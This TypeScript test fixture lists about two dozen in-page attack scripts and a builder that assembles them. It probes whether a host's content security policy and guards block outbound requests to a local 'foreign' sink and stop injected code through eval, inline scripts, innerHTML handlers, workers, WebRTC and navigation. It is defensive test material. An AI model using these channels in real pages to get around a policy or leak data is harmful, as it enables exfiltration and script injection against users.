/** What a page with a compromised script tries. Each is the body of a function that may wait. */
export interface PageAttack {
  readonly name: string;
  readonly script: string;
  /** The page's policy does not speak about it: there the host's guards have to hold. */
  readonly beyondPolicy?: true;
  /** It waits for a click, as windows may open only after a user's gesture. */
  readonly clicked?: true;
}

/** `F` is a foreign host and port, `U` its port for UDP. An attack that ran code of its own says so in `window.attacked`. */
export const pageAttacks: readonly PageAttack[] = [
  { name: 'fetch', script: `await fetch('http://' + F + '/fetch', { mode: 'no-cors' })` },
  {
    name: 'XMLHttpRequest',
    script: `await new Promise((done) => { const x = new XMLHttpRequest(); x.onloadend = done; x.open('POST', 'http://' + F + '/xhr'); x.send('a'); })`,
  },
  {
    name: 'WebSocket',
    script: `await new Promise((done) => { const w = new WebSocket('ws://' + F + '/'); w.onclose = w.onerror = w.onopen = done; })`,
  },
  {
    name: 'EventSource',
    script: `await new Promise((done) => { const e = new EventSource('http://' + F + '/events'); e.onerror = e.onopen = () => { e.close(); done(); }; })`,
  },
  { name: 'sendBeacon', script: `navigator.sendBeacon('http://' + F + '/beacon', 'a')` },
  { name: 'eval', script: `(0, eval)('window.attacked = "eval"')` },
  { name: 'new Function', script: `new Function('window.attacked = "function"')()` },
  { name: 'a timer with text', script: `setTimeout('window.attacked = "timer"', 0); await frame()` },
  {
    name: 'an inline script',
    script: `const s = document.createElement('script'); s.append('window.attacked = "inline"'); document.head.append(s); await frame()`,
  },
  {
    name: 'an inline handler',
    script: `const b = document.createElement('button'); b.setAttribute('onclick', 'window.attacked = "handler"'); document.body.append(b); b.click()`,
  },
  {
    name: 'innerHTML',
    script: `document.body.appendChild(document.createElement('div')).innerHTML = '<img src="http://' + F + '/html" onerror="window.attacked = 1">'`,
  },
  {
    name: 'a foreign script',
    script: `const s = document.createElement('script'); s.src = 'http://' + F + '/a.js'; document.head.append(s); await frame()`,
  },
  { name: 'import()', script: `await import('http://' + F + '/a.js')` },
  {
    name: 'a worker',
    script: `const w = new Worker(URL.createObjectURL(new Blob(['fetch("http://' + F + '", { mode: "no-cors" }).finally(() => postMessage(1))']))); await new Promise((done) => { w.onmessage = w.onerror = done; })`,
  },
  {
    name: 'a foreign style sheet',
    script: `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://' + F + '/a.css'; document.head.append(l); await settled(l)`,
  },
  {
    name: 'an inline style that loads',
    script: `const s = document.createElement('style'); s.append('@import "http://' + F + '/b.css"; body { background: url(http://' + F + '/c.png) }'); document.head.append(s); await frame()`,
  },
  {
    name: 'an image',
    script: `const i = new Image(); document.body.append(i); i.src = 'http://' + F + '/a.png'; await settled(i)`,
  },
  {
    name: 'a font',
    script: `await new FontFace('f', 'url(http://' + F + '/a.woff2)').load()`,
  },
  {
    name: 'a frame',
    script: `const f = document.createElement('iframe'); f.src = 'http://' + F + '/frame'; document.body.append(f); await settled(f)`,
  },
  {
    name: 'an object',
    script: `const o = document.createElement('object'); o.data = 'http://' + F + '/o'; document.body.append(o); await frame()`,
  },
  {
    name: 'a form',
    script: `const f = document.createElement('form'); f.action = 'http://' + F + '/form'; f.method = 'post'; document.body.append(f); f.submit(); await frame()`,
  },
  {
    name: 'a base address',
    script: `const b = document.createElement('base'); b.href = 'http://' + F + '/'; document.head.append(b); if (document.baseURI.includes(F)) window.attacked = 'base'`,
  },
  {
    name: 'a prefetch',
    script: `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://' + F + '/p'; document.head.append(l); await frame()`,
  },
  {
    name: 'WebRTC',
    beyondPolicy: true,
    script: `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + U }, { urls: 'turn:' + F + '?transport=tcp', username: 'a', credential: 'b' }] }); c.createDataChannel('a'); await c.setLocalDescription(); await new Promise((done) => { setTimeout(done, 1500); c.onicegatheringstatechange = () => c.iceGatheringState === 'complete' && done(); })`,
  },
  {
    name: 'window.open',
    beyondPolicy: true,
    clicked: true,
    script: `document.addEventListener('click', () => window.open('http://' + F + '/opened'), { once: true })`,
  },
  { name: 'going away', beyondPolicy: true, script: `location.href = 'http://' + F + '/away?canary'` },
];

/** The script that carries them, as a file of the page's own origin; `run` starts one by its name. */
export function attackScript(sink: { readonly port: number; readonly udpPort: number }): string {
  const bodies = pageAttacks.map(({ name, script }) => `${JSON.stringify(name)}: async () => { ${script} }`);
  return `
const F = '127.0.0.1:${sink.port}', U = ${sink.udpPort};
const frame = () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
const settled = (element) => new Promise((done) => { element.onload = element.onerror = done; setTimeout(done, 1000); });
const attacks = { ${bodies.join(',\n')} };
// Not in the stack of who calls: what the debugger begins may use eval, whatever the policy says.
window.runAttack = (name) => delete window.attacked && new Promise((done) => setTimeout(() => attacks[name]().then(done, done)));
`;
}
